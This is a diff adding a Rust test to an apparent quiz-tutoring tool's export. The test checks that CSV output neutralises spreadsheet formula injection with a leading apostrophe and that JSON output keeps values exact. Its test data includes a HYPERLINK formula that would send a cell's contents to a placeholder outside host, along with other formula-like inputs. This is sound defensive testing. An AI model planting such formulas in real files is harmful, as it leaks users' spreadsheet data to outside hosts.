@@ -194,3 +194,51 @@ fn no_progress_yet_is_an_empty_export() {
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert_eq!(stdout(&out).trim(), "[]");
 }
+
+/// OWASP's CSV-injection case: a choice and a learner name that a spreadsheet would run as
+/// formulas arrive in CSV as text (a leading `'`), and in JSON exactly as they were.
+#[test]
+fn csv_cells_never_run_as_formulas_and_json_stays_exact() {
+    let course = tempfile::tempdir().expect("tempdir");
+    let formula = r#"=HYPERLINK("http://example.invalid/?x="&A1,"x")"#;
+    answers::write(
+        course.path(),
+        "lessons/01-f.md",
+        "+++\nid = \"f\"\ntitle = \"F\"\norder = 1\nquiz = \"f\"\n+++\n# F\n",
+    );
+    answers::write(
+        course.path(),
+        "quizzes/f.toml",
+        &format!(
+            "id = \"f\"\ntitle = \"F\"\nlesson = \"f\"\n[[question]]\nid = \"q\"\nkind = \"single\"\n\
+             prompt = \"p\"\nchoices = [{formula:?}, \"@SUM(1)\", \"-1+2\"]\nanswer = 0\nexplanation = \"e\"\n"
+        ),
+    );
+    let data = tempfile::tempdir().expect("tempdir");
+    let catalog = Catalog::load(&ContentSource::Dir(course.path().to_path_buf()));
+    let quiz = catalog.quiz("f").expect("quiz f loads");
+    let session = Session::new(quiz, 7);
+    let line = line_for(&session.current().expect("a question"), Mode::Right);
+    let dir = course.path().to_str().expect("utf-8 path");
+    let out = cloudtutor(
+        &["quiz", "f", "--plain", "--seed", "7", "--content", dir],
+        data.path(),
+        &format!("{line}\n"),
+    );
+    assert!(stdout(&out).ends_with("score: 1/1\n"), "{}", stdout(&out));
+
+    let out = export(course.path(), data.path(), &["--name", "=1+2"]);
+    let table = parse_csv(&stdout(&out));
+    assert_eq!(table.len(), 2, "{table:?}");
+    assert_eq!(table[1][0], "'=1+2");
+    assert_eq!(table[1][5], format!("'{formula}"));
+
+    let out = export(
+        course.path(),
+        data.path(),
+        &["--format", "json", "--name", "=1+2"],
+    );
+    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).expect("JSON array");
+    assert_eq!(rows[0]["name"], "=1+2");
+    assert_eq!(rows[0]["answer"], formula);
+}
